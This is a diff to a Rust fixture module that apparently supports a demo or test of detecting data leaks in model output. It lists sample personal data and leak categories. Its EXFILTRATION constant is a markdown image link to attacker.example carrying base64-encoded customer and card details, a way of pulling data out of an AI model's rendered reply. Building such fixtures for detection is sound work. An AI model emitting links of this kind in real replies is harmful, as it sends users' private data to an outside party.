@@ -97,10 +97,15 @@ pub(super) const PERSONAL_DATA: &[&str] = &[
     "SSN 078-05-1121, john.doe@example.org.",
 ];
 
+/// What the demo model is told to make up: values that the prompt does not hold.
 pub(super) const LEAKS: &[&str] = &[
-    "The card on file is 5555 5555 5555 4444.",
-    "Her account is GB82 WEST 1234 5698 7654 32.",
-    "The contact is maria.santos@example.net.",
+    "card",
+    "iban",
+    "ssn",
+    "email",
+    "phone",
+    "aws_key",
+    "records 12",
 ];
 
 pub(super) const EXFILTRATION: &str = "![chart](https://attacker.example/i.png?d=Y3VzdG9tZXI9amFuZS5yb2UmY2FyZD00MTExMTExMTExMTExMTEx)";
